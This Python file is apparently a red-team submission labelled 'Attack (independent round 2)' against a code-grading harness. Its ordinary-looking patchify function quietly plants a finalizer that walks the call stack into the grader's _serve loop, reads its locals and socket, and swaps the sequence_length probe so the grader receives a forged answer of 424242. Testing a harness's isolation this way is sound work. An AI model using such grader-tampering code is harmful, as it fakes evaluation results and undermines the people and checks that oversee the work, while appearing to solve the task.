"""Attack (independent round 2): reach the serve loop without the collector. The probe a call uses
is a fresh function; student code reaches it through its caller's globals, hangs an object with a
finalizer on it and clears those globals (breaking the function-namespace cycle), so that the
function would be freed by reference counting wherever its last reference is dropped. Were that the
serve loop (the main thread), the finalizer would walk up to ``_serve`` and swap a probe in its
table: sequence_length would then answer 424242. The worker keeps every probe it made."""
import sys, threading
import numpy as np
import torch

EVIDENCE = []

def _fake_seq_probe_maker():
    def probe(ns, h, w, p):
        print("EVIDENCE", EVIDENCE); return 424242
    return probe

class _Evil:
    def __del__(self):
        main = threading.current_thread() is threading.main_thread()
        f = sys._getframe()
        chain = []
        while f is not None:
            chain.append(f.f_code.co_name)
            if f.f_code.co_name == "_serve":
                loc = f.f_locals
                EVIDENCE.append(("main_thread", main, "locals", sorted(k for k in loc if not k.startswith("__"))[:30]))
                names, table = loc.get("names"), loc.get("table")
                if names and table is not None and "sequence_length" in names:
                    table[names.index("sequence_length")] = _fake_seq_probe_maker
                    EVIDENCE.append("swapped the sequence_length probe")
                sock = loc.get("sock")
                EVIDENCE.append(("sock", repr(sock)[:120]))
                break
            f = f.f_back
        EVIDENCE.append(("chain", chain[:8], "main", main))

_ARMED = []

def patchify(z, p):
    if not _ARMED:
        _ARMED.append(1)
        g = sys._getframe(1).f_globals  # the probe's fresh namespace copy
        F = g.get("patchify")
        if F is not None:
            F.evil = _Evil()
            del F
            g.clear()  # break the cycle: F is now freed when the main thread drops call()'s args
    if z.dim() != 4:
        raise ValueError("4-D")
    B, C, H, W = z.shape
    if H % p or W % p:
        raise ValueError("div")
    x = z.reshape(B, C, H // p, p, W // p, p).permute(0, 2, 4, 1, 3, 5)
    return x.reshape(B, (H // p) * (W // p), C * p * p)

def sequence_length(h, w, p):
    print("EVIDENCE", EVIDENCE)
    return (h // p) * (w // p)
